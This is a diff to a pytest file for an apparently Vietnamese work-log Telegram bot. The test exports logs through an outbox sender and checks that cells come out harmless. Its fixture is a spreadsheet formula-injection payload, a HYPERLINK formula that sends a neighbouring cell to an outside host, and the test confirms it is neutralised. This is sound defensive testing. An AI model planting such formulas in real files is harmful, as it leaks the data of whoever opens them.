@@ -3,8 +3,9 @@
 An official logs `=HYPERLINK("http://x?d="&B2,"a")` (a formula that would send the next cell to a
 stranger's server when the department opens the file) and a text pasted from Word with its
 Shift+Enter (U+000B, which XML cannot hold). The supervisor exports through the real Telegram
-stack (`/xuat`, the fake Bot API receives the document) and the operator through the command
-line; both files are opened with openpyxl (and the CSV with the csv module) and checked.
+stack (`/xuat`, the export worker, the outbox; the fake Bot API receives the document) and the
+operator through the command line; both files are opened with openpyxl (and the CSV with the
+csv module) and checked.
 """
 
 from __future__ import annotations
@@ -20,14 +21,17 @@ import pytest
 from openpyxl import load_workbook
 from openpyxl.workbook.workbook import Workbook
 
+from bot.channels.telegram_outbox import TelegramOutbox, outbox_bot
 from bot.export.sink import CsvSink, SheetSpec, XlsxSink
+from bot.outbox_sender import OutboxSender, SenderSettings
 from handlers.router import Router
 from storage import Database, worklog
 from storage.org_import import resolve_person
 from testing.fakes.telegram_api import FakeTelegramAPI
 from tests.helpers.cli import OPERATOR_SETTINGS, bietphai
+from tests.helpers.exports import build_waiting_exports
 from tests.helpers.sample import AN, THANH
-from tests.helpers.telegram import PollingBot, linked_official
+from tests.helpers.telegram import TOKEN, PollingBot, linked_official
 
 FORMULA = '=HYPERLINK("http://x?d="&B2,"a")'
 WORD_PASTE = "Họp dân thôn 3\x0bChiều: rà soát hồ sơ"
@@ -99,13 +103,24 @@ def assert_harmless(book: Workbook) -> None:
 
 
 async def test_a_formula_and_a_word_line_break_export_as_plain_text_from_the_chat(
-    bot: PollingBot, org_db: Database
+    bot: PollingBot, org_db: Database, tmp_path: Path
 ) -> None:
     await log_through_telegram(bot, org_db)
     await old_row_with_a_control_character(org_db)
     thanh = await linked_official(bot, org_db, THANH, 7002, "Thành")
     [menu] = await thanh.says("/xuat", at="2026-11-27 16:00")
-    await thanh.presses("Tuần này", menu)
+    [building] = await thanh.presses("Tuần này", menu)
+    assert building.text.startswith("Đang lập tệp Excel")
+    # The export worker builds the workbook; the outbox sends it to Telegram.
+    await build_waiting_exports(org_db, tmp_path / "files")
+    delivery = TelegramOutbox(outbox_bot(TOKEN, bot.fake.base_url))
+    await delivery.start()
+    try:
+        sender = OutboxSender(org_db, delivery, SenderSettings(chat_interval=0))
+        while await sender.drain_once():
+            pass
+    finally:
+        await delivery.stop()
     [upload] = [c for c in bot.fake.calls_of("sendDocument") if c.ok]
     content = upload.params["document"]["content"]
     assert_harmless(load_workbook(io.BytesIO(content)))
